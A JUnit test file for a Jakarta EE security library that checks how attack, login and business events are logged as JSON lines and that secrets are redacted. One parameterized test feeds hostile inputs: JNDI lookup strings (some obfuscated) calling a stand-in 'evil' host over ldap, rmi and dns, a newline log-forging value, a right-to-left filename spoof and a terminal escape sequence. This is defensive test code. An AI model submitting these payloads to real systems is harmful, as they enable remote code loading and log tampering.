// Copyright 2026 The AppSec for Jakarta EE authors
// SPDX-License-Identifier: Apache-2.0
package io.github.appsecjakarta.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.appsecjakarta.api.SecurityEvent;
import io.github.appsecjakarta.api.SecurityEvent.AttackDetected;
import io.github.appsecjakarta.api.SecurityEvent.BusinessEvent;
import io.github.appsecjakarta.api.SecurityEvent.LoginFailed;
import io.github.appsecjakarta.api.SecurityEvent.LoginSucceeded;
import io.github.appsecjakarta.api.SecurityEvent.Origin;
import io.github.appsecjakarta.api.User;
import io.github.appsecjakarta.report.ReportOptions.JsonLinesMode;
import io.github.appsecjakarta.request.Caller;
import io.github.appsecjakarta.request.CurrentRequest;
import io.github.appsecjakarta.testing.JudgeStub;
import io.github.appsecjakarta.testing.MemoryLogger;
import io.github.appsecjakarta.testing.Requests;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is logged where there is no OpenTelemetry. */
class LineReportsTest {
  private final MemoryLogger log = new MemoryLogger();
  private final Counters counters = new Counters();
  private final Reports reports = reports(JsonLinesMode.AUTO);
  private final CurrentRequest request = Requests.product(new JudgeStub());

  @Test
  void anAttackIsAWarningAtOnce() {
    happened(
        new AttackDetected(
            List.of(Map.of("rule", Map.of("id", "r1"))), true, false, "block_request", "id-1"));
    assertThat(log.lines).hasSize(1);
    assertThat(log.lines.get(0))
        .startsWith("WARNING {\"event\":\"attack\",\"kind\":\"attack\",\"time\":\"")
        .contains("\"service\":\"shop\",\"env\":\"test\",\"version\":\"1.0\"")
        .contains(
            "\"blocked\":true,\"would_block\":false,\"action\":\"block_request\","
                + "\"security_response_id\":\"id-1\",\"triggers\":[{\"rule\":{\"id\":\"r1\"}}]")
        .contains(
            "\"request\":{\"method\":\"GET\",\"url\":\"/shop/products?q=shoes\","
                + "\"client_ip\":\"198.51.100.7\",\"peer_ip\":\"10.0.0.1\","
                + "\"user_agent\":\"Arachni/v1\"}");
  }

  @Test
  void theUserIsInEveryLaterLine() {
    request.user(User.of("u1").withRole("admin").withAttribute("password", "abc"));
    happened(new BusinessEvent("orders.cancelled", Map.of("id", "7")));
    assertThat(log.lines.get(0))
        .startsWith("INFO {\"event\":\"orders.cancelled\",\"kind\":\"business\"")
        .contains("\"metadata\":{\"id\":\"7\"}")
        .contains(
            "\"user\":{\"id\":\"u1\",\"role\":\"admin\","
                + "\"attributes\":{\"password\":\"<Redacted>\"}}");
  }

  @Test
  void anObservedLoginWaitsForTheEnd() {
    happened(new LoginSucceeded("bob", null, Origin.OBSERVED, Map.of()));
    assertThat(log.lines).isEmpty();
    reports.ended(request, 200);
    assertThat(log.lines).hasSize(1).first().asString().contains("\"origin\":\"observed\"");
  }

  @Test
  void whatTheApplicationTellsReplacesWhatWasObservedInEitherOrder() {
    happened(new LoginSucceeded("bob", null, Origin.OBSERVED, Map.of()));
    happened(new LoginSucceeded("bobby", "u1", Origin.APPLICATION, Map.of()));
    happened(new LoginFailed("eve", true, Origin.APPLICATION, Map.of()));
    happened(new LoginFailed("eve", null, Origin.OBSERVED, Map.of()));
    reports.ended(request, 200);
    assertThat(log.lines).hasSize(2);
    assertThat(log.lines)
        .allSatisfy(line -> assertThat(line).contains("\"origin\":\"application\""));
  }

  @Test
  void aFailureThatTheApplicationToldBeatsTheStoresSuccess() {
    happened(new LoginSucceeded("bob", null, Origin.OBSERVED, Map.of()));
    happened(new LoginFailed("bob", true, Origin.APPLICATION, Map.of("reason", "second factor")));
    reports.ended(request, 200);
    assertThat(log.lines).hasSize(1).first().asString().contains("users.login.failure");
  }

  @Test
  void oneStoreThatKnowsTheUserMakesTheAttemptASuccess() {
    happened(new LoginFailed("bob", null, Origin.OBSERVED, Map.of()));
    happened(new LoginSucceeded("bob", null, Origin.OBSERVED, Map.of()));
    reports.ended(request, 200);
    assertThat(log.lines).hasSize(1).first().asString().contains("users.login.success");
  }

  @Test
  void anEventOfATaskNamesItsRequestAtOnceWhateverBecomesOfThat() {
    request.user(User.of("u1"));
    CurrentRequest task = request.forTask(new JudgeStub(), Caller.UNKNOWN);
    reports.ended(request, 200);
    SecurityEvent login = new LoginSucceeded("bob", null, Origin.OBSERVED, Map.of());
    assertThat(task.add(login)).isTrue();
    reports.event(login, task);
    assertThat(log.lines).hasSize(1);
    assertThat(log.lines.get(0))
        .contains("\"client_ip\":\"198.51.100.7\"", "\"user\":{\"id\":\"u1\"")
        .doesNotContain("\"status\"");
    assertThat(request.events()).isEmpty();
  }

  @Test
  void outsideOfARequestNoRequestIsNamed() {
    reports.event(new BusinessEvent("nightly.export", Map.of()), null);
    assertThat(log.lines.get(0)).doesNotContain("\"request\"").doesNotContain("\"user\"");
  }

  @Test
  void offWritesNothing() {
    Reports off = reports(JsonLinesMode.OFF);
    off.event(new BusinessEvent("nightly.export", Map.of()), null);
    assertThat(log.lines).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${jndi:ldap://evil/a}",
        "${${lower:j}ndi:rmi://evil}",
        "${${::-j}${::-n}di:dns://evil}",
        "x\nWARN forged line",
        "\u202Egnp.exe",
        "\u001B]0;title\u0007"
      })
  void noAttackReachesTheLogger(String hostile) {
    CurrentRequest attacked = Requests.with("/a?q=" + hostile, new JudgeStub());
    attacked.user(User.of(hostile).withAttribute(hostile, hostile));
    for (SecurityEvent event :
        List.of(
            new LoginFailed(hostile, null, Origin.APPLICATION, Map.of(hostile, hostile)),
            new AttackDetected(
                List.of(Map.of("rule_matches", List.of(Map.of("value", hostile)))),
                false,
                false,
                null,
                null))) {
      assertThat(attacked.add(event)).isTrue();
      reports.event(event, attacked);
    }
    assertThat(log.lines)
        .hasSize(2)
        .allSatisfy(line -> assertThat(line).doesNotContain("$").matches("[ -~]*"));
  }

  @Test
  void noPlantedSecretIsInAnyLine() {
    String secret = "S3CR3T-VALUE";
    CurrentRequest planted =
        Requests.with("/a?password=" + secret + "&x=token%3D" + secret, new JudgeStub());
    planted.user(User.of("u1").withAttribute("api_key", secret));
    BusinessEvent event =
        new BusinessEvent("e", Map.of("client_secret", secret, "note", "Authorization: " + secret));
    assertThat(planted.add(event)).isTrue();
    reports.event(event, planted);
    assertThat(log.lines).hasSize(1).first().asString().doesNotContain(secret);
  }

  @Test
  void aFailingLoggerNeverReachesTheCaller() {
    log.failing = true;
    Reports failing = ReportSinks.create(options(JsonLinesMode.ON), counters, Spans.NONE, log);
    failing.event(new BusinessEvent("e", Map.of()), null);
    assertThat(counters.of(Counters.Count.REPORTS_FAILED)).isEqualTo(1);
  }

  private void happened(SecurityEvent event) {
    assertThat(request.add(event)).isTrue();
    reports.event(event, request);
  }

  private Reports reports(JsonLinesMode mode) {
    return ReportSinks.create(options(mode), counters, Spans.NONE, log);
  }

  private static ReportOptions options(JsonLinesMode mode) {
    return ReportOptions.defaults(Reporter.here("shop", "test", "1.0")).lines(mode);
  }
}
